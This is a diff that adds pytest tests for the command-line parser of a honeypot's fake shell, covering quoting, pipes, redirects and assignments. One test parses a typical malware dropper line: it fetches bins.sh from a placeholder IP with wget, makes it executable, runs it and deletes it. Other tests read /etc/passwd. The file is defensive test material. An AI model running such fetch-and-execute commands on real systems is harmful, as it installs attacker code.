@@ -1,0 +1,135 @@
+"""Shell-input parser."""
+
+from __future__ import annotations
+
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+from repro.honeypot.shell.parser import ParseError, parse_line
+
+
+def argvs(line: str) -> list[list[str]]:
+    """All stage argvs of all statements, flattened in order."""
+    result = []
+    for statement in parse_line(line):
+        for stage in statement.pipeline.stages:
+            result.append(stage.argv)
+    return result
+
+
+class TestBasics:
+    def test_single_command(self):
+        (statement,) = parse_line("uname -a")
+        assert statement.pipeline.stages[0].argv == ["uname", "-a"]
+
+    def test_semicolons(self):
+        statements = parse_line("cd /tmp; ls; pwd")
+        assert [s.pipeline.stages[0].argv[0] for s in statements] == [
+            "cd", "ls", "pwd",
+        ]
+
+    def test_connectors_recorded(self):
+        statements = parse_line("a && b || c")
+        assert [s.connector for s in statements] == [";", "&&", "||"]
+
+    def test_pipeline_stages(self):
+        (statement,) = parse_line("cat /etc/passwd | grep root | wc -l")
+        names = [stage.argv[0] for stage in statement.pipeline.stages]
+        assert names == ["cat", "grep", "wc"]
+
+    def test_empty_line(self):
+        assert parse_line("") == []
+        assert parse_line("   ") == []
+
+    def test_background_marker(self):
+        statements = parse_line("sleep 10 &")
+        assert statements[0].pipeline.stages[0].argv == ["sleep", "10"]
+
+
+class TestQuoting:
+    def test_double_quotes_group(self):
+        (statement,) = parse_line('echo "hello world"')
+        assert statement.pipeline.stages[0].argv == ["echo", "hello world"]
+
+    def test_single_quotes_preserve_specials(self):
+        (statement,) = parse_line("echo 'a;b|c'")
+        assert statement.pipeline.stages[0].argv == ["echo", "a;b|c"]
+
+    def test_backslash_escape(self):
+        (statement,) = parse_line(r"echo a\ b")
+        assert statement.pipeline.stages[0].argv == ["echo", "a b"]
+
+    def test_unterminated_quote_raises(self):
+        with pytest.raises(ParseError):
+            parse_line('echo "unclosed')
+
+    def test_escaped_quote_inside_double(self):
+        (statement,) = parse_line('echo "say \\"hi\\""')
+        assert "hi" in statement.pipeline.stages[0].argv[1]
+
+
+class TestRedirects:
+    def test_truncate_redirect(self):
+        (statement,) = parse_line("echo hi > /tmp/x")
+        stage = statement.pipeline.stages[0]
+        assert stage.argv == ["echo", "hi"]
+        assert stage.redirects[0].op == ">"
+        assert stage.redirects[0].target == "/tmp/x"
+
+    def test_append_redirect(self):
+        (statement,) = parse_line("echo hi >> /tmp/x")
+        assert statement.pipeline.stages[0].redirects[0].op == ">>"
+
+    def test_redirect_without_target(self):
+        with pytest.raises(ParseError):
+            parse_line("echo hi >")
+
+    def test_stderr_redirect_discarded(self):
+        (statement,) = parse_line("wget http://x 2>/dev/null")
+        stage = statement.pipeline.stages[0]
+        assert stage.argv == ["wget", "http://x"]
+        assert stage.redirects == []
+
+    def test_input_redirect_becomes_argument(self):
+        (statement,) = parse_line("cat < /etc/passwd")
+        assert statement.pipeline.stages[0].argv == ["cat", "/etc/passwd"]
+
+
+class TestAssignments:
+    def test_leading_assignment(self):
+        (statement,) = parse_line("VAR=1 uname")
+        stage = statement.pipeline.stages[0]
+        assert stage.assignments == [("VAR", "1")]
+        assert stage.argv == ["uname"]
+
+    def test_bare_assignment(self):
+        (statement,) = parse_line("VAR=value")
+        stage = statement.pipeline.stages[0]
+        assert stage.assignments == [("VAR", "value")]
+        assert stage.argv == []
+
+    def test_assignment_after_command_is_argument(self):
+        (statement,) = parse_line("dd bs=22 count=1")
+        assert statement.pipeline.stages[0].argv == ["dd", "bs=22", "count=1"]
+
+
+class TestRobustness:
+    @given(st.text(alphabet=st.characters(codec="ascii"), max_size=120))
+    @settings(max_examples=200)
+    def test_never_crashes_beyond_parse_error(self, line):
+        try:
+            parse_line(line)
+        except ParseError:
+            pass
+
+    def test_real_attack_line(self):
+        line = (
+            "cd /tmp || cd /var/run || cd /mnt; "
+            "wget http://1.2.3.4/bins.sh -O bins.sh; chmod 777 bins.sh; "
+            "./bins.sh; rm -rf bins.sh"
+        )
+        names = [argv[0] for argv in argvs(line)]
+        assert names == [
+            "cd", "cd", "cd", "wget", "chmod", "./bins.sh", "rm",
+        ]
